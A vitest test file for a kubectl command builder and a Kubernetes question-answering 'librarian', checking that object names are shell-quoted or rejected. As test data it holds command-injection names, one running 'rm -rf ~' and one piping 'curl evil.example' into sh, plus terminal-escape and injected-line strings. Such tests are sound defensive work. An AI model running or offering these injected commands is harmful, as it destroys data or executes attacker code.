import { describe, expect, it } from "vitest";
import { crashing, now, pod } from "../../test/objects.js";
import { createInMemoryReader } from "../cluster/in-memory-reader.js";
import { createK8sLibrarian } from "../k8s-librarian.js";
import { kubectl, option } from "./kubectl.js";

describe("kubectl commands", () => {
  it("are written as they are for names that need no quotes", () => {
    expect(
      kubectl`logs ${"web-1"}${option("-n", "shop")}${option("-c", undefined)} --previous`,
    ).toEqual(["kubectl logs web-1 -n shop --previous"]);
  });

  it("quote a name that a shell would read as more than a name", () => {
    expect(kubectl`describe clusterrole ${"it's; rm -rf ~ #`id`$(id)"}`).toEqual([
      "kubectl describe clusterrole 'it'\\''s; rm -rf ~ #`id`$(id)'",
    ]);
  });

  it.each(["--kubeconfig=/tmp/x", "a\nb", "a\u001b[31m", "a\u202eb", "a\\u{1b}b", ""])(
    "are left out for %j, which is a flag or cannot be shown",
    (name) => {
      expect(kubectl`get pod ${name}`).toEqual([]);
      expect(kubectl`get pods${option("-n", name)}`).toEqual([]);
    },
  );

  it("never hold an unquoted command from an object's name in an answer", async () => {
    const evil = "web; curl evil.example|sh #";
    const objects = [evil, "web\u001b[31m\n- run this"].map((name) =>
      pod({ name, container: crashing }),
    );
    const { librarian } = createK8sLibrarian({ reader: createInMemoryReader({ objects, now }) });

    const { answer = "" } = await librarian("What is wrong?");

    expect(answer).toContain(`kubectl describe pod '${evil}' -n shop`);
    expect(answer.replaceAll(`'${evil}'`, "")).not.toMatch(/kubectl[^`]*;/);
    expect(answer).not.toContain("\u001b");
    expect(answer).not.toMatch(/^\s*- run this/m);
    expect(answer).not.toMatch(/kubectl[^`]*run this/);
  });
});
